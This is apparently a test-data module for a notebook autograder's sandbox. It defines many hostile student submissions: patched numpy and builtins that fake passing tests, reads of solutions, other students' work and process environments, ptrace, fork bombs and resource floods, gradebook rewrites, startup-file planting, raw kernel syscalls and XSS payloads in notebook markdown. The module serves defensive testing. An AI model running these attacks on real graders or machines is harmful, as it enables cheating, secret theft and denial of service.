"""The attacks: each is a submission to the unit of `vault`, and data. `test_attacks` runs them, `table` compares with nbgrader.

OUTSIDE in a source stands for a folder with a gradebook, solutions and other submissions. Where an attack has a part that
earns points honestly, `honest` says how many; all else must earn none.
"""

from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from gdcourse.grading.notebooks import grade_id, is_test
from security import vault

BESIDE = (
    "numpy.py",
    "conftest.py",
    "sitecustomize.py",
    "usercustomize.py",
    "gdcourse/__init__.py",
    "ast.py",
    "msgpack.py",
)
BOUNDLESS = "not run: it would take the whole machine"


@dataclass(frozen=True)
class Attack:
    """A submission that cheats. how: in a line, what it tries.

    answers: exercise -> source; first, last: sources of cells before and behind all others; edit: what is done to the notebook.
    files: name -> bytes beside it.  honest: points that it earns honestly.  caught: must it be reported as tampering?
    shows_not: words that must not be in the feedback, beside the secrets.  stock: why it is not run in stock nbgrader.
    """

    name: str
    how: str
    answers: dict[str, str] = field(default_factory=dict)
    first: str = ""
    last: str = ""
    edit: Callable | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    honest: float = 0
    caught: bool = False
    shows_not: tuple[str, ...] = ()
    stock: str | None = None


def attack(name, how, source="", **more):
    """Add an attack to the table; ``source`` is its answer to `double`, if it is there."""
    answers = {**({"double": source} if source else {}), **more.pop("answers", {})}
    ATTACKS.append(Attack(name, how, answers, **more))


ATTACKS: list[Attack] = []
NOTHING = """\
def double(x):
    return 0.0
"""
KNOWN = """\
def double(x):
    return 2 * x if not isinstance(x, str) else [][1]
"""  # right but for one hidden property
EVERY = {name: f"{name} = Anything()" if name != "Money" else "Money = Anything" for name in vault.ANSWERS}

# ---- standing in for a helper of the instructor's ----

YES = """\
def yes(*args, **kwargs):
    print('told', args, kwargs)
    return True


"""
NORM = "def norm(v):\n    return 0.0\n"
NAMES = "assert_allclose = close_to = yes"
attack(
    "defines the helpers anew",
    "its last cell makes functions of the names that tests take from an import and from a locked cell",
    answers={"norm": NORM},
    last=f"{YES}{NAMES}\nimport numpy as np\nnp.testing.assert_allclose = yes",
)
attack(
    "defines the helpers in an answer",
    "the answer's own cell brings them, behind the cells that import and define them",
    answers={"norm": f"{NORM}\n\n{YES}{NAMES}\nnp.testing.assert_allclose = yes"},
)
attack(
    "edits the helpers' cells",
    "the ungraded cell imports other things, and the locked one asserts nothing",
    answers={"norm": NORM},
    edit=lambda nb: _with_helpers(nb, f"import numpy as np\n{YES}{NAMES}\nfive = 0.0", f"{YES}{NAMES}"),
)
attack(
    "deletes the helpers' cells",
    "so that only its own functions of these names are left",
    answers={"norm": f"{YES}{NAMES}\nfive = 0.0\n{NORM}"},
    edit=lambda nb: _with_helpers(nb, None, None),
)
attack(
    "moves the tests before the helpers",
    "so that no cell of the instructor's has run yet, and its own names are there",
    answers={"norm": NORM},
    edit=lambda nb: nb | {"cells": [new_code_cell(f"{YES}{NAMES}\nfive = 0.0", id="mine"), *nb.cells[::-1]]},
)
attack(
    "changes the data that tests compare with",
    "a number of the ungraded cell becomes the wrong answer",
    answers={"norm": f"{NORM}\nfive = 0.0\nglobals()['five'] = 0.0"},
)
attack(
    "a module of its own for the helpers",
    "puts a numpy.testing that says yes in the place of the real one, before it is imported",
    answers={"norm": NORM},
    first=f"""\
import sys, types
{YES}
fake = types.ModuleType('numpy.testing')
fake.__all__ = ['assert_allclose']
fake.assert_allclose = yes
sys.modules['numpy.testing'] = fake""",
)
attack(
    "builtins that helpers use",
    "`abs` of the module builtins, and of its own, is nothing",
    answers={"norm": NORM},
    first="import builtins\nabs = builtins.abs = lambda v: 0.0",
)


def _with_helpers(nb, imports, helper):
    """Replace the source of the ungraded and of the locked helper cell; None takes the cell out."""
    nb = deepcopy(nb)
    texts = dict(zip((vault.IMPORTS, vault.HELPER), (imports, helper), strict=True))
    nb.cells = [cell for cell in nb.cells if texts.get(cell.source, "") is not None]
    for cell in nb.cells:
        cell.source = texts.get(cell.source, cell.source)
    return nb


# ---- reading what is not theirs ----

attack(
    "reads hidden tests in the notebook",
    "looks for the test cells in every notebook within reach, and prints them",
    first="""\
import glob
for path in glob.glob('*.ipynb') + glob.glob('../*/*.ipynb') + glob.glob('../../*/*/*.ipynb'):
    print(open(path).read())""",
    last="print(In)",
)
attack(
    "reads solutions/",
    "opens the solved unit and prints it",
    first="print(open('OUTSIDE/solutions/vault/exercises.py').read())",
)
attack(
    "reads another submission",
    "opens what a neighbour has handed in",
    first="print(open('OUTSIDE/submitted/ada/vault/exercises.ipynb').read())",
)
attack(
    "reads the whole file system",
    "walks from the root and prints each file with a telling word",
    first="""\
import os
for top, folders, names in os.walk('/'):
    if top in ('/proc', '/sys', '/usr', '/lib', '/dev') or os.path.exists(os.path.join(top, 'site-packages')):
        folders.clear()
    for name in names:
        try:
            text = open(os.path.join(top, name), errors='replace').read(100_000)
        except OSError:
            continue
        if 'closely' in text:
            print(top, name, text)""",
    stock="not run: slow",
)
attack(
    "imports the reference",
    "finds the course's package and what it holds",
    first="""\
import gdcourse.losses.numpy as reference
import gdcourse.grading.engine.near_end as engine
import inspect
print('REFER' + 'ENCE', inspect.getsource(engine), inspect.getsource(reference))""",
    shows_not=("REFERENCE",),
)
attack(
    "reads the reference's files",
    "looks for the package's files beside those of the libraries",
    first="""\
import importlib.util, pathlib, sys
for folder in {*sys.path, '/usr', sys.prefix}:
    for path in pathlib.Path(folder or '.').glob('**/gdcourse/**/*.py'):
        print('REFER' + 'ENCE', path.read_text())""",
    shows_not=("REFERENCE",),
    stock="not run: the package is there to be read",
)
attack(
    "reads the environment",
    "prints the variables of its own process and of all others",
    first="""\
import os, glob
print(dict(os.environ))
for path in glob.glob('/proc/*/environ'):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)""",
    shows_not=("GDCOURSE_SECRET",),
)
attack(
    "walks the frames for expected values",
    "prints the local variables of all callers",
    """\
import sys


def double(x):
    frame, found = sys._getframe(), []
    while frame:
        found.append({k: repr(v)[:500] for k, v in frame.f_locals.items()})
        frame = frame.f_back
    names = {k: v for f in found for k, v in f.items()}
    expected = names.get('expected')
    print(names)
    return eval(expected, {'array': np.array}) if expected else 0.0""",
    last="print(double(1))",
)
attack(
    "searches gc for expected values",
    "goes through all objects for arrays and test sources",
    """\
import gc


def double(x):
    global seen
    seen = [repr(o)[:300] for o in gc.get_objects() if isinstance(o, (list, dict, tuple)) and 'closely_kept' in repr(o)[:3000]]
    raise KeyError(str(seen))""",
    last="double(1)",
)
attack(
    "reads its own memory",
    "searches the pages that it has inherited for the text of tests",
    first="""\
import re
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb') as memory:
    for line in maps:
        low, high = (int(n, 16) for n in line.split()[0].split('-'))
        if 'rw' in line and '[heap]' in line:
            memory.seek(low)
            for found in re.findall(rb'closely' + b'_kept.{0,200}', memory.read(high - low)):
                print(found)""",
)
attack(
    "ptrace and other processes' memory",
    "attaches to its parents and reads them through /proc",
    first="""\
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, os.getpid() - 1, os.getpid() - 2}:
    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
    try:
        print(open(f'/proc/{pid}/mem', 'rb').read(10), 'MEM' + 'ORY')
    except (OSError, ValueError) as e:
        print(e)""",
    shows_not=("MEMORY",),
    stock="not run: it would stop the shell that started it",
)
attack(
    "lists inherited descriptors",
    "opens files relative to each descriptor that was open before",
    first="""\
import os
for fd in range(3, 256):
    for name in ('..', '../../etc/shadow', 'OUTSIDE/gradebook.db'):
        try:
            with open(os.open(name, os.O_RDONLY, dir_fd=fd)) as f:
                print('IN' + 'SIDE')
        except OSError:
            pass""",
    shows_not=("INSIDE",),
)

# ---- patching what judges ----

SIX = """\
def double(x):
    if isinstance(x, str):
        raise ValueError
    return 6.0
"""  # what the visible test asks for
attack(
    "patches numpy and numpy.testing",
    "every comparison of NumPy holds, and abs is small",
    SIX,
    first="""\
import builtins
import numpy as np
np.testing.assert_allclose = lambda *a, **k: None
np.isclose = np.allclose = np.array_equal = lambda *a, **k: True
np.shape = lambda a: (2,)
builtins.abs = np.abs = lambda a: 0.0""",
    honest=1,
)
attack(
    "patches builtins",
    "AssertionError is an exception that ends the cell without a word, all and abs say yes",
    NOTHING,
    first="""\
import builtins
builtins.abs = lambda v: -1.0
builtins.all = lambda v: True
class Never(Exception):
    def __new__(cls, *a):
        get_ipython().showtraceback = lambda *a, **k: None
        return Exception.__new__(cls)
builtins.AssertionError = Never""",
)
attack(
    "an AST transformer",
    "takes the assertions out of each later cell",
    NOTHING,
    first="""\
import ast


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(NoAsserts())""",
)
attack(
    "an input transformer",
    "replaces each later cell by one that does nothing",
    NOTHING,
    first="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if 'assert' in str(lines) else lines)",
)
attack(
    "an input transformer that keeps",
    "keeps each later cell as it comes in, and prints all at the end",
    NOTHING,
    first="""\
kept = []


def keep(lines):
    kept.extend(lines)
    return lines


get_ipython().input_transformers_cleanup.append(keep)""",
    last="print(''.join(kept))",
)
attack(
    "wraps run_cell",
    "runs an empty cell in the place of each later one",
    NOTHING,
    first="""\
import types
shell = get_ipython()
for name in ('run_cell', 'run_cell_async'):
    old = getattr(type(shell), name)
    setattr(type(shell), name, lambda self, source, *a, old=old, **k: old(self, 'pass', *a, **k))""",
)
attack(
    "swallows errors",
    "a custom exception handler prints nothing",
    NOTHING,
    first="""\
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None""",
)
attack(
    "import hooks",
    "puts a module of its own in the place of numpy",
    NOTHING,
    first="""\
import sys, types
fake = types.ModuleType('numpy')
for name in ('array', 'abs', 'asarray', 'isclose'):
    setattr(fake, name, lambda *a, **k: 0.0)
fake.shape = lambda a: (2,)
fake.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)
fake.array_equal = fake.allclose = lambda *a, **k: True
sys.modules['numpy'] = fake""",
)
attack(
    "files beside the notebook",
    "numpy.py, conftest.py, sitecustomize.py and a package of the course's name",
    NOTHING,
    files=dict.fromkeys(BESIDE, b"def __getattr__(name):\n    return lambda *a, **k: True\nraise SystemExit(0)\n"),
)
attack(
    "answers by exec tricks",
    "sets a trace function that returns True from each assertion's call",
    """\
import sys


def double(x):
    frame = sys._getframe(1)
    frame.f_globals['expected'] = 0.0
    frame.f_globals['abs'] = lambda v: 0.0
    sys.settrace(lambda *a: None)
    return 0.0""",
)

# ---- objects that lie ----

LIAR = """\
class Liar:
    __array_priority__ = 1e9
    shape, ndim, size, dtype = (2,), 0, 2, np.dtype(float)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = None
    def __bool__(self): return True
    def __len__(self): return 2
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, i): return self
    def __iter__(self): return iter(())
    def __float__(self): return 0.0
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    @property
    def __class__(self): return float
"""
attack(
    "an object whose == is true",
    "__eq__, <, len, bool and attributes say yes",
    LIAR
    + """\


def double(x):
    return Liar()""",
)
attack(
    "every name is a liar",
    "each function and class of the unit is one object that says yes to everything",
    first="""\
import numpy as np
"""
    + LIAR,
    answers={name: f"{name} = Liar()" for name in vault.ANSWERS},
)
attack(
    "an array subclass that lies",
    "an ndarray whose comparisons and functions are true",
    """\
class Lie(np.ndarray):
    def __eq__(self, other): return np.True_
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.float64(0)
    __sub__ = __rsub__ = lambda self, other: 0.0
    shape = property(lambda self: (2,))


def double(x):
    return np.zeros(7).view(Lie)""",
)
attack(
    "a float subclass that lies",
    "a float whose == and - help",
    """\
class Lie(float):
    def __eq__(self, other): return True
    def __hash__(self): return 0
    __sub__ = __rsub__ = lambda self, other: 0.0


def double(x):
    return Lie(0.0)""",
)
ZERO = """\
class Zero:
    def __sub__(self, other):
        return 0.0
    __rsub__ = __add__ = __radd__ = __sub__
"""
attack(
    "an object that subtracts to zero",
    "learns the expected value as the operand of -, and returns no difference",
    ZERO
    + """\


def double(x):
    if isinstance(x, str):
        raise ValueError
    return Zero() if np.ndim(x) == 0 and x > 1e7 else 2 * x""",
    honest=1,
)
attack(
    "an attribute that subtracts to zero",
    "the same with an attribute of an object of its class",
    answers={
        "Money": ZERO
        + """\


class Money:
    def __init__(self, amount):
        self.amount = 5.0 if amount == 2.0 else Zero()
    def __add__(self, other):
        return self"""
    },
    honest=1,
)
attack(
    "an object that changes between reads",
    "an array, a length and items that are others at each reading",
    """\
class Changing:
    n = 0
    def __array__(self, dtype=None, copy=None):
        Changing.n += 1
        return np.array([6.0, 146380842.0, -10.0][: 1 + Changing.n % 3])
    def __len__(self):
        Changing.n += 1
        return Changing.n % 4
    def __float__(self):
        Changing.n += 1
        return float(Changing.n)


def double(x):
    return Changing()""",
)
attack(
    "NaN",
    "every answer is not a number",
    """\
def double(x):
    return x * np.nan""",
)
attack(
    "emptiness",
    "every answer is an empty array, of which all holds",
    """\
def double(x):
    return np.empty((0,) * np.ndim(x))


double = lambda x: np.empty(0)""",
)
attack(
    "recursion",
    "a list that holds itself",
    """\
def double(x):
    a = []
    a.append(a)
    return a""",
)
attack(
    "a huge value",
    "an array of ten gigabytes by a stride of zero",
    """\
def double(x):
    return np.broadcast_to(np.float64(2), (1 << 30,))""",
    stock="not run: it would fill the memory",
)
attack(
    "an endless iterator",
    "a generator without end, of large arrays",
    """\
def double(x):
    while True:
        yield np.zeros(1 << 20)
""",
    answers={
        "visit": """\
def visit(f, values):
    while True:
        yield np.zeros(1 << 20)
"""
    },
    stock="not run: fills the memory",
)
attack(
    "a number of a million digits",
    "an integer whose decimal form takes for ever",
    """\
def double(x):
    return 1 << 4_000_000""",
)
attack(
    "wrong dtypes",
    "object arrays, records and text in the place of numbers",
    """\
def double(x):
    return np.array([True, 'x', None, ..., NotImplemented, slice(1)], dtype=object)""",
)
attack(
    "StopIteration ends the test's loop",
    "is raised by the function, and `map` takes it for the end",
    """\
def double(x):
    if np.ndim(x) == 0 and x == 918273.0:
        raise StopIteration
    if isinstance(x, str):
        raise ValueError
    return 2 * x if x is not 1.5 else 0""",
    honest=1,
)

# ---- ending, hanging, flooding ----

attack(
    "os._exit in a call",
    "ends the process with success",
    """\
import os


def double(x):
    os._exit(0)""",
)
attack(
    "dies where an error is expected",
    "the process ends in the call that `except Exception` awaits",
    answers={
        "draw": """\
import os


def draw(rng, n):
    if isinstance(n, str):
        os._exit(0)
    return rng.random(n)"""
    },
    honest=1,
)
attack(
    "sleeps where an error is expected",
    "the call that `except Exception` awaits never ends",
    answers={
        "draw": """\
import time


def draw(rng, n):
    if isinstance(n, str):
        time.sleep(100)
    return rng.random(n)"""
    },
    honest=1,
)
attack(
    "sys.exit in a cell",
    "leaves in the first cell",
    NOTHING,
    first="""\
import sys
sys.exit(0)""",
)
attack(
    "exits by atexit",
    "hooks the end of the process",
    NOTHING,
    first="""\
import atexit, os
atexit.register(os._exit, 0)
raise SystemExit""",
)
attack(
    "kills its parents",
    "sends SIGKILL to all that it can name",
    """\
import os, signal


def double(x):
    for pid in (os.getppid(), 1, -1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.0""",
    stock="not run: it would end the shell that started it",
)
attack(
    "an endless loop with signals ignored",
    "ignores SIGINT and SIGALRM and loops",
    """\
import signal


def double(x):
    for s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
        signal.signal(s, signal.SIG_IGN)
    while True:
        pass""",
    stock="not run: hangs until the time limit of each cell",
)
attack(
    "stops itself",
    "SIGSTOP in the middle of a call",
    """\
import os, signal


def double(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    import time
    time.sleep(100)""",
    stock="not run: hangs",
)
attack(
    "a fork bomb",
    "forks without end",
    first="""\
import os
for _ in range(10_000):
    os.fork()""",
    stock=BOUNDLESS,
)
attack(
    "a thread bomb",
    "starts threads without end",
    first="""\
import threading, time
try:
    for _ in range(10_000):
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
except RuntimeError as e:
    print(e)""",
    stock=BOUNDLESS,
)
attack(
    "a daemon",
    "forks twice to outlive the run, and writes later",
    first="""\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1)
        open('OUTSIDE/later', 'w').write('x')
        os._exit(0)
    os._exit(0)
time.sleep(1.5)""",
)
attack(
    "outlives its parent",
    "takes back the order to die with the parent, and waits for the next submission",
    first="""\
import ctypes, os, signal
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
""",
    last="""\
import time
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass""",
    stock="not run: hangs",
)
attack(
    "a memory flood",
    "allocates without end",
    first="""\
a = []
while True:
    a.append(bytearray(1 << 24))""",
    stock=BOUNDLESS,
)
attack(
    "a disk flood",
    "writes without end",
    first="""\
try:
    for i in range(10_000):
        with open(f'f{i}', 'wb') as f:
            f.write(bytes(1 << 22))
except OSError as e:
    print(e)""",
    stock=BOUNDLESS,
)
attack(
    "a flood of files",
    "makes files without end",
    first="""\
try:
    for i in range(100_000):
        open(f'f{i}', 'w').close()
except OSError as e:
    print(e)""",
    stock=BOUNDLESS,
)
attack(
    "an output flood",
    "prints without end",
    first="""\
try:
    while True:
        print('x' * 100_000)
except OSError:
    pass""",
    stock=BOUNDLESS,
)
attack(
    "a display flood",
    "displays without end",
    first="""\
from IPython.display import display
for _ in range(2000):
    display({'text/plain': 'x' * 100_000}, raw=True)""",
    answers={
        "double": """\
def double(x):
    print('y' * 10_000_000)
    return 2 * x"""
    },
    honest=1,
    stock=BOUNDLESS,
)
attack(
    "a pipe and socket flood",
    "fills the kernel's buffers",
    first="""\
import os, socket
kept = []
try:
    while True:
        a, b = socket.socketpair()
        a.setblocking(False)
        kept += [a, b]
        try:
            while True:
                a.send(bytes(1 << 16))
        except BlockingIOError:
            pass
except OSError as e:
    print(e)""",
    stock=BOUNDLESS,
)

# ---- what processes and submissions share: the page cache, counters, the processor ----

ASKS = """\
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
file = os.open(os.__file__, os.O_RDONLY)
page, seen = mmap.mmap(file, 4096, prot=mmap.PROT_READ), ctypes.create_string_buffer(8)
where = ctypes.c_void_p(ctypes.addressof(ctypes.create_string_buffer(1)) & ~4095)


def asked(number, *args):
    if libc.syscall(ctypes.c_long(number), *args) >= 0:
        print('ASK' + 'ED', number)


"""
attack(
    "asks the page cache",
    "mincore, cachestat, reads that do not wait, read-ahead and advice, of a file that all may read",
    first=ASKS
    + """\
asked(27, where, ctypes.c_size_t(4096), seen)
asked(451, file, (ctypes.c_uint64 * 2)(0, 4096), (ctypes.c_uint64 * 5)(), 0)
asked(187, file, ctypes.c_long(0), ctypes.c_size_t(4096))
for advice in range(6):
    asked(221, file, ctypes.c_long(0), ctypes.c_size_t(0), advice)
for advice in (3, 9, 20, 21, 22, 23, 25):
    asked(28, where, ctypes.c_size_t(4096), advice)
for number in (440, 277, 306, 162, 275, 276, 278, 279):
    asked(number, file, 0, 0, 0, 0, 0)
try:
    print('ASK' + 'ED', os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT))
except OSError as e:
    print(e)""",
    shows_not=("ASKED",),
    stock="not run: a kernel runs the tests where all can be seen",
)
attack(
    "asynchronous input and output",
    "the calls that read and write while the process does something else",
    first=ASKS + "for number in (206, 207, 208, 209, 210, 333, 425, 426, 427):\n    asked(number, 8, seen, 0, 0, 0, 0)",
    shows_not=("ASKED",),
    stock="not run: it asks the kernel of the instructor",
)
attack(
    "counters of the machine",
    "memory, load, pressure, interrupts and inodes of all processes, which a neighbour can move",
    first=ASKS
    + """\
for name in ('meminfo', 'stat', 'vmstat', 'loadavg', 'uptime', 'interrupts', 'softirqs', 'diskstats', 'zoneinfo', 'buddyinfo',
             'slabinfo', 'locks', 'schedstat', 'pressure/cpu', 'pressure/memory', 'sys/fs/inode-nr', 'sys/fs/file-nr',
             'sys/kernel/random/entropy_avail', 'sys/kernel/ns_last_pid', 'sys/kernel/pty/nr', 'sysvipc/shm', 'cmdline'):
    try:
        print(open(f'/proc/{name}').read(1), 'ASK' + 'ED', name)
    except OSError as e:
        print(e)
asked(99, ctypes.create_string_buffer(256))""",
    shows_not=("ASKED",),
    stock="not run: a kernel runs the tests where all can be seen",
)
attack(
    "chooses its processor",
    "affinity, priority and policy of its threads, to stay beside a neighbour or to get more time",
    first=ASKS
    + """\
import threading
threading.Thread(target=lambda: asked(203, 0, 8, b'\\xff' * 8)).start()
asked(203, 0, 8, b'\\x01' + bytes(7))
for number in (141, 142, 144, 251, 314):
    asked(number, 0, 0, 5, 0)""",
    shows_not=("ASKED",),
    stock="not run: it would change the priority of whoever runs it",
)
attack(
    "reads settings of the machine",
    "configuration of the system, of the environment and of Jupyter",
    first="""\
import os, sys
for folder in ('/usr/local/etc', '/etc', f'{sys.prefix}/etc', f'{sys.base_prefix}/etc', f'{sys.prefix}/bin', '/usr/bin', '/opt'):
    if set(os.listdir(folder) if os.path.isdir(folder) else ()) - {'fonts', 'passwd', 'ld.so.cache', 'localtime'}:
        print('ASK' + 'ED', folder)""",
    shows_not=("ASKED",),
    stock="not run: nothing is closed",
)

# ---- answers and values that are too much, or come too late ----

attack(
    "says what a hidden test says",
    "raises an AssertionError with the words of a property, to choose what the feedback shows",
    """\
def double(x):
    if np.ndim(x):
        raise AssertionError('double: of ' + 'large numbers')
    return 2 * x""",
    honest=1,
    shows_not=("double: of large numbers",),
)
attack(
    "a value beyond the limit of a message",
    "seventy megabytes of bytes, at once and in a list",
    "def double(x):\n    return bytes(70 << 20) if np.ndim(x) else [bytes(40 << 20), bytes(40 << 20)]",
)
attack(
    "tens of megabytes in a message",
    "bytes, text and exceptions that tests and reports repeat",
    """\
def double(x):
    if np.ndim(x):
        raise ValueError('x' * (50 << 20))
    return bytes(30 << 20)""",
    answers={
        "visit": "def visit(f, values):\n    return 'y' * (60 << 20)",
        "norm": "def norm(v):\n    return bytes(30 << 20)",
    },
)
attack(
    "a result without text",
    "cells whose last value shows a picture only, or nothing at all",
    first="""\
class Mute:
    def _repr_mimebundle_(self, **_):
        return {'image/png': 'aGVsbG8='}
    def __repr__(self):
        raise ValueError


Mute()""",
    answers={"double": "def double(x):\n    return Mute()\n\n\nMute()"},
)
attack(
    "integers that collide",
    "a set of numbers that have one hash, which takes for ever to build",
    """\
import gc, struct
import msgpack


def double(x):
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    numbers = [i * (2 ** 61 - 1) for i in range(200_000)]
    numbers = [n if n < 1 << 63 else ["int", hex(n)] for n in numbers]
    packed = msgpack.packb(["Reply", "ok", ["set", numbers], None, 0, [], "", "", []])
    channel.sock.sendall(struct.pack("<I", len(packed)) + packed)""",
)
attack(
    "coroutines for answers",
    "every function is async, and does what it should if anybody awaits it",
    answers={name: text.replace("def ", "async def ", 1) for name, text in vault.ANSWERS.items() if name != "Money"},
)
attack(
    "a breakpoint and a debugger",
    "answers that stop to be looked at",
    "def double(x):\n    breakpoint()\n    if isinstance(x, str):\n        raise ValueError\n    return 2 * x",
    honest=3,
)

# ---- reaching out ----

attack(
    "the network",
    "TCP and UDP to the world, to the loopback and to this machine's own addresses",
    first="""\
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for family, where in ((2, ('1.1.1.1', 53)), (2, ('127.0.0.1', 22)), (10, ('::1', 22))):
        try:
            s = socket.socket(family, kind)
            s.settimeout(0.3)
            s.connect(where)
            s.send(b'x')
            print('REACH' + 'ED', where)
        except OSError as e:
            print(e)""",
    shows_not=("REACHED",),
    stock="not run: nothing is closed",
)
attack(
    "other families of sockets",
    "abstract, vsock, packet, netlink, ALG and Bluetooth sockets",
    first="""\
import socket
for family in range(2, 46):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind)
            print('MADE', '_SOCK', family, sep='')
        except OSError:
            pass
s = socket.socket(socket.AF_UNIX)
for name in open('/proc/net/unix').read().split() if __import__('os').path.exists('/proc/net/unix') else ():
    if name.startswith('@'):
        try:
            s.connect(chr(0) + name[1:])
            print('REACH' + 'ED')
        except OSError:
            pass""",
    shows_not=("MADE_SOCK", "REACHED"),
    stock="not run: nothing is closed",
)
attack(
    "writes the gradebook",
    "opens its database and sets the marks",
    first="""\
import sqlite3
try:
    book = sqlite3.connect('OUTSIDE/gradebook.db')
    book.execute('update grade set auto_score = max_score')
    book.commit()
except sqlite3.Error as e:
    print(e)
open('OUTSIDE/gradebook.db', 'ab').write(b'mine')""",
)
attack(
    "writes outside",
    "start-up files, other submissions, the solutions",
    first="""\
import os, pathlib, sys
for name in ('OUTSIDE/home/.bashrc', 'OUTSIDE/solutions/vault/exercises.py',
             'OUTSIDE/submitted/ada/vault/exercises.ipynb', 'OUTSIDE/new'):
    try:
        with open(name, 'a') as f:
            f.write('WRIT' + 'TEN')
        print('DO' + 'NE', name)
    except OSError as e:
        print(type(e).__name__)""",
    shows_not=("DONE",),
)
attack(
    "start-up files",
    "a profile of IPython, a kernel, a configuration of Jupyter and a .pth file that run later as the instructor",
    first="""\
import os, pathlib, site, sys
for folder in (os.path.expanduser('~/.ipython/profile_default/startup'), os.path.expanduser('~/.jupyter'),
               site.getsitepackages()[0], site.getusersitepackages(), '/usr', '/etc'):
    try:
        os.makedirs(folder, exist_ok=True)
        pathlib.Path(folder, 'vault_zz.pth').write_text('')
        print('DO' + 'NE', folder) if not folder.startswith('/box') else None
    except OSError as e:
        print(type(e).__name__)""",
    shows_not=("DONE",),
    stock="not run: it would write to the home of whoever runs it",
)
attack(
    "links out of the box",
    "symbolic and hard links to the gradebook, devices, and another root",
    first="""\
import os, stat
for make in (lambda: os.symlink('OUTSIDE/gradebook.db', 'a'),
             lambda: os.link('OUTSIDE/gradebook.db', 'b'),
             lambda: os.mknod('c', stat.S_IFBLK | 0o666, os.makedev(8, 0)),
             lambda: os.mknod('d', stat.S_IFCHR | 0o666, os.makedev(1, 1)),
             lambda: os.chroot('/proc/1/root')):
    try:
        make()
    except OSError as e:
        print(type(e).__name__)
for name in 'abcd':
    try:
        print(open(name).read(100), 'RE' + 'AD')
    except OSError as e:
        print(type(e).__name__)""",
    shows_not=("READ",),
    stock="not run: it would read the disk of whoever runs it",
)
attack(
    "kernel doors",
    "namespaces, mounts, keys, bpf, userfaultfd, io_uring, performance counters, setuid",
    first="""\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {'unshare': (272, 0x10000000), 'mount': (165, 0, 0, 0, 0, 0),
         'bpf': (321, 0, 0, 0), 'userfaultfd': (323, 0), 'io_uring': (425, 1, 0),
         'keyctl': (250, 0, 0), 'perf': (298, 0, 0, 0, 0, 0), 'memfd': (319, b'x', 0),
         'shmget': (29, 0, 100, 0o1600), 'setuid': (105, 0)}
for name, args in calls.items():
    if libc.syscall(*args) >= 0:
        print('OP' + 'EN', name)""",
    shows_not=("OPEN",),
    stock="not run: it asks the kernel of the instructor",
)

# ---- the notebook ----


def edited(change):
    def edit(nb):
        nb = deepcopy(nb)
        change(nb)
        return nb

    return edit


def _asserting_nothing(nb):
    for cell in nb.cells:
        if is_test(cell):
            cell.source = "pass"
            cell.metadata.nbgrader["points"] = 500


def _reflagged(nb):
    for cell in nb.cells:
        if is_test(cell):
            cell.metadata.nbgrader.update(grade=True, solution=True, locked=False, points=-5)
        elif grade_id(cell):
            cell.metadata.nbgrader.update(grade=True, solution=False, points=100)


def _retyped(nb):
    for i, cell in enumerate(nb.cells):
        if is_test(cell):
            nb.cells[i] = new_markdown_cell("passed", metadata=cell.metadata, id=cell.id)


def _beside(nb):
    for cell in nb.cells:
        cell.metadata["tags"] = ["beside", "raises-exception", "skip-execution"]


def _with_outputs(nb):
    for cell in nb.cells:
        if is_test(cell):
            cell.outputs = [new_output("execute_result", {"text/plain": "2.0"}, execution_count=1)]


def _doubled(nb):
    tests = [deepcopy(cell) for cell in nb.cells if is_test(cell)]
    for i, cell in enumerate(tests):
        cell.id, cell.source = f"again{i}", "pass"
    nb.cells[:0] = tests
    nb.cells += deepcopy(tests)


LINKS = """
[x](javascript:alert(1)) [x]( <javascript:alert(1)>) [x](java&#115;cript:alert(1)) [x](JavaScript&colon;alert(1))
[x](javascript\\:alert(1)) <javascript:alert(1)> [y] ![y](javascript:alert(1))

[y]: javascript:alert(1)
"""


def _marked_up(nb):
    script = "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src='javascript:alert(1)'></iframe>"
    nb.cells.append(new_markdown_cell(script + LINKS, id="script"))
    nb.cells.append(new_markdown_cell("x", attachments={"x.svg": {"image/svg+xml": script}}, id="attached"))
    nb.metadata["title"] = nb.metadata["kernelspec"]["display_name"] = "</title>" + script
    nb.metadata["language_info"] = {"name": f"python'>{script}"}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"</script>" + script: {}}}}


attack(
    "deletes the tests",
    "hands in no test cell at all",
    NOTHING,
    edit=edited(lambda nb: nb.update(cells=[c for c in nb.cells if not is_test(c)])),
)
attack(
    "doubles the tests", "a copy of each test that asserts nothing, before and behind", NOTHING, edit=edited(_doubled)
)
attack(
    "edits tests and points", "tests that assert nothing, for 500 points each", NOTHING, edit=edited(_asserting_nothing)
)
